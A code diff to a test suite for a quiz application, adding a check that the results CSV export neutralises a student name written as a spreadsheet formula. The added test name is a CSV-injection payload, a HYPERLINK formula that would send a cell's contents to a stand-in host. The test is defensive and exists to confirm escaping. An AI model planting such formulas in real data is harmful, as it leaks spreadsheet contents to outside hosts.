@@ -431,6 +431,11 @@ describe("tests and drives", async () => {
     it("lists a drive's results with pass/fail and how often each student left the quiz, and as CSV", async () => {
       const drive = await driveWith({ name: "Results", questionCount: 3, timingMode: "whole_quiz", passMark: 60 });
       const { token } = (await register({ driveCode: drive.code, name: "Asha Rao" })).json();
+      const formula = (
+        await register({ driveCode: drive.code, name: '=HYPERLINK("http://x.example/?leak="&C2,"Click")' })
+      ).json();
+      await startAll(formula.token);
+      await submit(formula.token, []);
       const questions = (await startAll(token)).json() as QuizQuestion[];
       for (const position of [0, 0, 2]) {
         const focus = await app.inject({
@@ -448,7 +453,7 @@ describe("tests and drives", async () => {
       const results = (
         await app.inject({ method: "GET", url: `/api/drives/${drive._id}/results`, headers: asAdmin })
       ).json();
-      expect(results).toEqual([
+      expect(results[0]).toEqual(
         expect.objectContaining({
           _id: resultId,
           studentName: "Asha Rao",
@@ -459,7 +464,8 @@ describe("tests and drives", async () => {
           passed: true,
           focusLosses: 3,
         }),
-      ]);
+      );
+      expect(results).toHaveLength(2);
       const detail = (
         await app.inject({ method: "GET", url: `/api/students/results/${resultId}`, headers: asAdmin })
       ).json();
@@ -472,6 +478,8 @@ describe("tests and drives", async () => {
       );
       expect(csv.body).toContain("Asha Rao");
       expect(csv.body).toContain(",66.67,pass,3,");
+      // A name that is a spreadsheet formula is written as text.
+      expect(csv.body).toContain(`"'=HYPERLINK(""http://x.example/?leak=""&C2,""Click"")"`);
     });
   });
 });
